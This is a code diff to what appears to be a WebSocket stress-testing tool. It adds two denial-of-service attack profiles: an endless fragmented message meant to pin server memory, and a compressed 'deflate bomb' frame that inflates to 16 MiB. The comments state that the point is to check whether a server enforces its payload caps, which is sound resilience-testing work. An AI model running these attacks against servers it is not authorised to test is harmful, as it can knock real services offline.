@@ -20,13 +20,21 @@
  *   violation at once (a random first byte could also be a valid header declaring a long frame, which a server
  *   would simply wait for).
  * - `conn-flood`: upgrades and drops the connection at once (RST), as fast as `--rate` and `--max-pending` allow.
+ * - `fragment-pin`: starts a binary message (FIN = 0) and continues it with `--fragment-bytes` fragments (1 byte:
+ *   7 bytes on the wire each), never finishing it, as fast as ping-flood sends pings (same queue and per-tick caps).
+ *   A server that keeps each fragment as an object pays far more than the bytes (ws #2331: ≈0.87 MB on the wire
+ *   pinned ≈13.5 MB of heap); one that appends them to one buffer pays the bytes, up to its payload cap.
+ * - `deflate-bomb`: offers permessage-deflate in its upgrade and sends one compressed binary message (RSV1) of
+ *   `--inflated-size` zeros (16 MiB: ≈16 KiB on the wire). A server that negotiated it must stop inflating at its
+ *   payload cap (1009); one that did not must fail the RSV1 frame (1002). Built once per worker.
  *
  * How each ended is counted by outcome (metrics/swarm.ts ATTACK_OUTCOMES), close code, and time from connect() to
  * the cut, in an {@link AttackTally}.
  */
 import { randomFillSync } from 'node:crypto';
+import { constants as zlib, deflateRawSync } from 'node:zlib';
 import { ATTACK_CLOSE_CODES, ATTACK_OUTCOMES, type AttackOutcome } from '../metrics/swarm.js';
-import { OP_BINARY, OP_PING, OP_TEXT, encodeFrame } from './codec.js';
+import { OP_BINARY, OP_CONTINUATION, OP_PING, OP_TEXT, RSV1, encodeFrame } from './codec.js';
 import type { AttackEnd } from './pool.js';
 import type { AttackOptions, AttackProfile, SwarmCommand, SwarmSpeech, SwarmTarget } from './options.js';
 import { Traffic, latencyHistogram, templateFrame, type Profile } from './profiles.js';
@@ -38,6 +46,8 @@ const FLOOD_QUEUE = 16 * 1024;
 const FLOOD_PER_TICK = 20_000;
 const GARBAGE_BYTES = 256;
 const OVERSIZE_PAYLOAD_SENT = 16;
+/** fragment-pin: continuation frames per write (1.7 KiB at 1 byte each), under ping-flood's queue and per-tick caps. */
+const FRAGMENT_BATCH = 256;
 /** slow-frame's frame: a valid `echo` command of 125 bytes (7-bit length), so a server that waits gets a request. */
 const SLOW_FRAME_LENGTH = 125;
 /** slow-reader: read credit is refilled this often. */
@@ -334,6 +344,67 @@ class ConnFlood extends Attack {
   tick(): void {}
 }
 
+/**
+ * A message that never ends: its first fragment at the upgrade, then continuation fragments (FIN = 0) from one
+ * prebuilt batch, written while less than FLOOD_QUEUE bytes wait in libuv for that socket, round-robin under a
+ * worker-wide cap per tick. The frames are masked with a zero key (valid; the payload goes out as zeros).
+ */
+class FragmentPin extends Attack {
+  private readonly first: Buffer;
+  private readonly batch: Buffer;
+  private cursor = 0;
+
+  constructor(pool: AttackPool, s: AttackSettings) {
+    super(pool, s);
+    const n = s.attack.fragmentBytes;
+    const frame = (op: number): Buffer => {
+      const f = Buffer.alloc(6 + n); // FIN = 0, masked, 7-bit length, zero mask, zero payload
+      f[0] = op;
+      f[1] = 0x80 | n;
+      return f;
+    };
+    this.first = frame(OP_BINARY);
+    this.batch = Buffer.concat(Array.from({ length: FRAGMENT_BATCH }, () => frame(OP_CONTINUATION)));
+  }
+
+  override opened(slot: number): void {
+    if (this.write(slot, this.first)) this.traffic.sent++;
+    this.every(FLOOD_TICK_MS);
+  }
+
+  tick(): void {
+    const used = this.pool.slotsUsed;
+    let budget = FLOOD_PER_TICK;
+    for (let k = 0; k < used && budget > 0; k++) {
+      const slot = (this.cursor + k) % used;
+      if (!this.pool.isOpen(slot) || this.pool.queued(slot) >= FLOOD_QUEUE) continue;
+      if (this.write(slot, this.batch)) {
+        this.traffic.sent += FRAGMENT_BATCH;
+        budget -= FRAGMENT_BATCH;
+      }
+    }
+    this.cursor = used > 0 ? (this.cursor + 1) % used : 0;
+  }
+}
+
+/** One compressed message of --inflated-size zeros, the same bytes for every slot. */
+class DeflateBomb extends Attack {
+  private readonly bomb: Buffer;
+
+  constructor(pool: AttackPool, s: AttackSettings) {
+    super(pool, s);
+    // RFC 7692 §7.2.1: a sync flush ends in 00 00 ff ff, which the sender strips and the receiver puts back
+    const z = deflateRawSync(Buffer.alloc(s.attack.inflatedBytes), { level: 9, finishFlush: zlib.Z_SYNC_FLUSH });
+    this.bomb = encodeFrame(OP_BINARY, z, 0, z.length - 4);
+    this.bomb[0] |= RSV1;
+  }
+
+  override opened(slot: number): void {
+    if (this.write(slot, this.bomb)) this.traffic.sent++;
+  }
+  tick(): void {}
+}
+
 /** The attack object for a worker's slots. */
 export function createAttack(s: AttackSettings, pool: AttackPool, capacity: number): Attack {
   switch (s.profile) {
@@ -345,5 +416,7 @@ export function createAttack(s: AttackSettings, pool: AttackPool, capacity: numb
     case 'oversize': return new Oversize(pool, s);
     case 'garbage': return new Garbage(pool, s);
     case 'conn-flood': return new ConnFlood(pool, s);
+    case 'fragment-pin': return new FragmentPin(pool, s);
+    case 'deflate-bomb': return new DeflateBomb(pool, s);
   }
 }
